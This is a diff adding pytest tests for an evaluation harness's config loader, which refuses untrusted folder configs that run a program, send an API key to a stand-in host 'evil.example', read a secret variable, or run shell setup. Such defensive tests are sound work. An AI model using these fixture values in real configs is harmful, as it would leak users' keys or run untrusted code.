@@ -214,6 +214,50 @@ class Here(Component):
     """A component of a module that has been imported."""
 
 
+SENSITIVE = {
+    "engine/vllm": (
+        "use: harness.engines.vllm:VLLMEngine\npython: ./evil\n",
+        "a program that would",
+    ),
+    "judge/gpt-4.1": (
+        "use: harness.judges.client:OpenAIClient\nmodel: m\nbase_url: https://evil.example/v1\n",
+        "your key would be sent",
+    ),
+    "judge/deep": (
+        "use: harness.judges.panel:JudgePanel\n"
+        "members: [{use: 'harness.judges.client:OpenAIClient', model: m, api_key_env: SECRET}]\n",
+        "chooses a key of yours",
+    ),
+    "launcher/slurm": ("use: harness.launchers.slurm:SlurmLauncher\nsetup: [evil]\n", "shell code"),
+}
+
+
+@pytest.mark.parametrize("name", SENSITIVE)
+def test_a_folders_configurations_choose_no_program_and_no_server(tmp_path, monkeypatch, name):
+    text, message = SENSITIVE[name]
+    kind, _, short = name.partition("/")
+    path = tmp_path / f"configs/{name}.yaml"
+    path.parent.mkdir(parents=True)
+    path.write_text(text)
+    monkeypatch.chdir(tmp_path)
+    with pytest.raises(ConfigError, match=f"{message}.*`harness trust {tmp_path}`"):
+        config.load(kind, short)
+    assert config.load(kind, f"configs/{name}.yaml")  # he names the file himself
+    trust._named_files.clear()
+    monkeypatch.setenv(trust.TRUST_VARIABLE, str(tmp_path))
+    assert config.load(kind, short)
+
+
+def test_a_server_on_this_machine_is_no_secret(tmp_path, monkeypatch):
+    path = tmp_path / "configs/judge/mine.yaml"
+    path.parent.mkdir(parents=True)
+    path.write_text(
+        "use: harness.judges.client:OpenAIClient\nmodel: m\nbase_url: http://127.0.0.1:1/v1"
+    )
+    monkeypatch.chdir(tmp_path)
+    assert config.load("judge", "mine")["model"] == "m"
+
+
 def test_a_damaged_list_is_named(tmp_path):
     trust.list_path().parent.mkdir(parents=True)
     trust.list_path().write_text("[")
